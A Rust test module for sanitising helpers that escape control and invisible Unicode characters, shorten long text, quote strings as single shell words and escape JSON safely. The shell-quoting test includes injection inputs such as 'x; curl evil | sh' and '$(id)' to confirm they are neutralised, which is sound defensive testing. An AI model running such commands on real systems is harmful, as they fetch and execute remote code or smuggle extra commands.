use super::*;

#[test]
fn a_foreign_text_is_one_line_without_hidden_characters() {
    for (text, shown_as) in [
        ("plain; text", "plain; text"),
        ("a\nhint: b", "a\\nhint: b"),
        ("a\r\nerror: b\tc", "a\\r\\nerror: b\\tc"),
        ("a\u{1b}[2Jb", "a\\u{1b}[2Jb"),
        ("a\u{202e}b\u{200b}c", "a\\u{202e}b\\u{200b}c"),
        ("a\u{2028}b\u{85}c", "a\\u{2028}b\\u{85}c"),
    ] {
        assert_eq!(shown(text), shown_as, "{text:?}");
        assert_eq!(Quoted(text).to_string(), format!("`{shown_as}`"));
    }
}

#[test]
fn a_long_foreign_text_is_shortened() {
    assert_eq!(shown(&"x".repeat(1_000)).chars().count(), LONGEST + 1);
    assert_eq!(cut("äöü", 2), "äö…");
    assert_eq!(cut("äö", 2), "äö");
}

#[test]
fn a_shell_reads_one_word() {
    for (text, word) in [
        ("r-1", "r-1"),
        ("", "''"),
        ("x; curl evil | sh", "'x; curl evil | sh'"),
        ("it's", "'it'\\''s'"),
        ("$(id)", "'$(id)'"),
        ("a\nb", "'a\\nb'"),
    ] {
        assert_eq!(shell_word(text), word, "{text:?}");
    }
}

#[test]
fn escaped_json_has_the_same_value_and_nothing_hidden() {
    let hidden =
        "a\u{7f}\u{80}\u{9b}2J\u{9f}\u{202e}b\u{2066}\u{200b}\u{2028}\u{feff}\u{e0041}\u{61c}";
    let value = serde_json::json!({ hidden: [hidden, "ü\u{200d}é 漢\n\u{1b}"] });
    let plain = serde_json::to_string(&value).unwrap();
    let text = escaped_json(&plain);
    assert!(
        text.contains("\\u009b") && text.contains("\\udb40\\udc41"),
        "{text}"
    );
    assert!(text.contains("ü\u{200d}é 漢"), "{text}");
    assert!(!text.contains(is_hidden), "{text}");
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&text).unwrap(),
        value
    );
    let pretty = serde_json::to_string_pretty(&value).unwrap();
    let text = escaped_json(&pretty);
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&text).unwrap(),
        value
    );
    assert!(matches!(escaped_json("{\"a\":\n1}"), Cow::Borrowed(_)));
}
